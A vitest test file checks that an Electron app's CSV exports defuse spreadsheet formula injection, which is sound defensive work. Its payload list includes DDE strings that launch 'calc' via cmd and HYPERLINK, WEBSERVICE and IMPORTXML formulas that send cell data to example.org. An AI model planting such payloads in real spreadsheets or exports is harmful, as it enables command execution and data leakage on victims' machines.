import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { disclosureTable } from '../../../electron/documents/disclosure-table.ts';
import { wordingIn } from '../../../electron/documents/wording/wording-in.ts';
import { requestTable } from '../../../shared/requests/request-table.ts';
import { requestWordsIn } from '../../../shared/requests/words-in.ts';
import { PROJECT } from '../../support/browser.ts';
import { createRegister, testApplication, type TestApplication } from '../../support/cheap-application.ts';
import { readTable } from '../../support/csv-reader.ts';
import { reportHeld } from '../../support/held.ts';
import { buildReceived, buildRequest } from '../../support/request-builder.ts';

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%', '\t=', '\r=', '\n=', ' =', '\u00a0=', '\u200b=', '\ufeff=', '\u202e=', '\0=', "'\t=".slice(1), ';=', '"=', '";"=', '"\r\n"=', '\r\n='] as const;
const BODIES = [
  '1+1', 'HYPERLINK("http://example.org/?"&A1;"так")', 'cmd|"/c calc"!A1', 'SUM(A1:A9)', 'IMPORTXML("http://example.org";"//a")', 'WEBSERVICE("http://example.org")', 'DDE("cmd";"/c calc";"x")', 'MSEXCEL|\'\\..\\calc\'!A',
  'IMAGE("http://example.org/x.png")', '2+5+cmd|"/c calc"!A0', 'rundll32|"x"!A', 'EXEC("x")', 'CALL("x")', 'INDIRECT("A1")', '10+20', '380670000001', '0',
] as const;
const PAYLOADS = STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`));
const PHONES = ['+380670000001', '+380 67 000 00 01', '+380(67)000-00-01', '+48 22 000 00 00'];
/** What stays of a text in a cell: line ends become spaces, and one apostrophe goes before what could run. */
const expected = (text: string): string => text.replaceAll(/[\r\n\t]+/gu, ' ');

/** Every module that writes a table; a new one belongs here and into the trial below. */
const WRITERS = ['electron/documents/disclosure-table.ts', 'shared/requests/request-table.ts'];

type Row = Parameters<typeof disclosureTable>[0][number]['row'];
const row = (recipientName: string, person: string): Row => ({
  id: 'x', at: '2026-11-23T10:00:00Z', caseCode: 'OBR-LV-26-0001', purpose: 'service-referral', service: 'health', recipientId: 'x', recipientName, basis: ['consent'], consentId: person,
  packetId: person, packetDigest: 'sha256:0', policy: { id: person, version: '1', digest: 'd' }, person, formats: [person], counts: { share: 1, generalise: 0, withhold: 2 }, copies: 1, isWritten: true,
});

describe('texts that a spreadsheet might run', () => {
  it('stay text in every cell of every table, and whole', () => {
    const wrong: string[] = [];
    for (const payload of PAYLOADS) {
      const tables = [
        disclosureTable([{ row: row(payload, payload), fields: [] }], wordingIn('uk')),
        requestTable([buildRequest({ theirReference: payload, stage: { number: '2026-0001' } })], requestWordsIn('en')),
      ];
      for (const table of tables) {
        const [head, line, ...more] = readTable(`\ufeff${table}`);
        const cells = line ?? [];
        if (more.length > 0 || head?.length !== cells.length || cells.some(({ isFormula }) => isFormula)) wrong.push(JSON.stringify(payload));
        if (!cells.some(({ text }) => text.replace(/^'/u, '') === expected(payload))) wrong.push(`lost ${JSON.stringify(payload)}`);
      }
    }
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(400);
    expect(reportHeld('formulas in exported tables', PAYLOADS.length * 2, wrong.length), wrong.slice(0, 10).join('; ')).toBe(true);
  });

  it('leave phone numbers as they are, behind one apostrophe', () => {
    for (const phone of PHONES) {
      const [, cells = []] = readTable(disclosureTable([{ row: row(phone, 'x'), fields: [] }], wordingIn('uk')));
      expect(cells.map(({ text }) => text)).toContain(`'${phone}`);
    }
  });

  it('would be found in a table that only quotes: the control', () => {
    const found = PAYLOADS.filter((payload) => readTable(`"x";"${payload.replaceAll('"', '""')}"\r\n`).flat().some(({ isFormula }) => isFormula));
    expect(found.length).toBeGreaterThan(350);
  });

  it('are tried on every module that writes a table', () => {
    const sources = ['electron', 'shared'].flatMap((room) => readdirSync(path.join(PROJECT, room), { recursive: true }).map((name) => `${room}/${String(name)}`)).filter((name) => name.endsWith('.ts'));
    const writers = sources.filter((name) => /join\((?:'[;,\\t]'|"[;,]")\)[^\n]*\\r\\n/u.test(readFileSync(path.join(PROJECT, name), 'utf8').replaceAll(/\n\s*/gu, ' ')) && name !== 'shared/wording');
    expect(writers.sort()).toEqual(WRITERS);
  });
});

describe('through the channels', () => {
  let test: TestApplication;
  let folder = '';
  beforeAll(async () => {
    folder = mkdtempSync(path.join(tmpdir(), 'oberih-formula-'));
    test = testApplication({ chooseFolder: () => Promise.resolve(folder) });
    await createRegister(test);
  });
  afterAll(() => {
    test.dispose();
    rmSync(folder, { recursive: true, force: true });
  });

  it('the saved table of requests runs nothing, also for LibreOffice where it is installed', async () => {
    for (const theirReference of PAYLOADS.filter((payload) => payload.trim() !== '').slice(0, 60)) await test.must('request.record', { request: buildReceived({ theirReference }) });
    const { name, rows } = await test.must('request.export', { from: null, to: null, language: 'uk' });
    const cells = readTable(readFileSync(path.join(folder, name), 'utf8')).flat();
    expect([rows, cells.filter(({ isFormula }) => isFormula)]).toEqual([60, []]);
  });

  it.skipIf(!hasOffice())('LibreOffice finds no formula in it (needs soffice)', async () => {
    const { name } = await test.must('request.export', { from: null, to: null, language: 'uk' });
    execFileSync('soffice', ['--headless', '--convert-to', 'fods', '--infilter=CSV:59,34,76', '--outdir', folder, path.join(folder, name)], { stdio: 'ignore' });
    expect(readFileSync(path.join(folder, name.replace(/csv$/u, 'fods')), 'utf8')).not.toContain('table:formula');
  });
});

function hasOffice(): boolean {
  try {
    execFileSync('soffice', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
